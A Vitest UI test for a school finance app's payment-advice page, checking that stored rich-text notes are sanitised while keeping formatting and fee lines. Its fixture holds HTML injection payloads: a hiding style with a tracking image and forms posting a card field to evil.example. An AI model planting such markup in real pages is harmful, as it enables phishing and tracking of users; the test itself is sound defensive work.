/**
 * Issue 32 §5: the PA paper renders the notes with the one rich-text allow-list (src/framework/RichTextView.tsx
 * safeRichText), not DOMPurify's defaults, so notes stored before sanitising on save (or written around it)
 * bring no `<style>` that hides or restyles the page and no `<form action=…>` posting elsewhere; Quill's
 * formatting stays. The remarks are plain text and show as text. Against the real in-process server.
 */
import { describe, expect, it, vi } from "vitest";
import { screen, waitFor } from "@testing-library/react";
import { useUiServer } from "../support/ui-server.ts";
import { renderResources, signInAs } from "./framework-harness.tsx";
import { resources } from "../../resources/index.ts";
import { paperClassLines } from "../../src/domain/finance/paperLines.ts";
import { formatMoney } from "../../src/domain/money.ts";
import type { ClassInformationStored } from "../../src/domain/finance/paymentAdviceApi.ts";

vi.mock("react-router", async () => (await import("node:module")).createRequire(import.meta.url)("react-router"));

const server = useUiServer();
const wait = { timeout: 30_000 };

describe("payment advice paper", () => {
  it("renders stored notes without <style> or <form>, keeping their formatting, wrapped inside the page; remarks as text; the class lines the PDF prints", async () => {
    const notes =
      `<style>.pa-paper { display: none } body { background: url(https://evil.example/seen.png) }</style><form action="https://evil.example/pay"><input name="card"><button>Pay now</button></form>` +
      `<p><strong>Late fee</strong> of <span style="color: rgb(230, 0, 0);">$10</span> a week.</p>`;
    // the first card also carries a material fee, an other payment and a deduction (issue 37, item 17)
    const items = { otherPayments: [{ name: "Material fee", amount: "30.00" }, { name: "Excursion", amount: "12.50" }], deductions: [{ name: "Sibling", amount: "5.00" }] };
    const { rows } = await server.db.query<{ id: string; cards: ClassInformationStored[] }>(
      `update payment_advices set notes = $1, remarks = $2, "classInformations" = jsonb_set("classInformations", '{0}', "classInformations"->0 || $3::jsonb)
       where id = (select id from payment_advices where "paymentStatus" = 'unpaid' and status <> 'deleted' order by "issueDate" desc limit 1) returning id, "classInformations" as cards`,
      [notes + `<p>${"https://example.com/a-very-long-unbroken-link/".repeat(8)}</p>`, `<form action="https://evil.example/r">Remark</form>`, JSON.stringify(items)],
    );
    await signInAs(server.baseUrl, "front_desk");
    await renderResources(resources, `/finance/payment-advice/paper/${rows[0]!.id}`);
    const heading = await waitFor(() => screen.getByRole("heading", { name: "Notes" }), wait);
    const shown = heading.nextElementSibling!;
    expect(shown.querySelector("style, form, input, button")).toBeNull();
    expect(shown.querySelector("strong")?.textContent).toBe("Late fee");
    expect(shown.querySelector("span")?.getAttribute("style")).toBe("color: rgb(230, 0, 0)");
    expect(document.querySelector('form[action^="https://evil.example"]')).toBeNull();
    // no style element on the page comes from the notes
    expect([...document.querySelectorAll("style")].filter((s) => s.textContent?.includes("evil.example"))).toEqual([]);
    expect(screen.getByText(`<form action="https://evil.example/r">Remark</form>`)).toBeTruthy();
    // long notes wrap inside the page instead of running off its edge
    expect(shown.classList.contains("pa-notes")).toBe(true);
    expect(getComputedStyle(shown).overflowWrap).toBe("anywhere");
    // the screen shows the PDF's lines, from the same builder: the material fee, other payments, the deduction…
    const lines = [...screen.getByTestId("paper-lines").querySelectorAll("tbody tr")].map((tr) => [...tr.querySelectorAll("td")].map((td) => td.textContent));
    expect(lines).toEqual(paperClassLines(rows[0]!.cards).map((l) => [l.className, l.label, l.lessons === null ? "" : String(l.lessons), l.unitPrice === null ? "" : formatMoney(l.unitPrice), formatMoney(l.amount)]));
    expect(lines).toContainEqual(["", "Material fee", "", "", "S$30.00"]);
    expect(lines).toContainEqual(["", "Excursion", "", "", "S$12.50"]);
    expect(lines).toContainEqual(["", "Deduction: Sibling", "", "", "-S$5.00"]);
  }, 120_000);
});
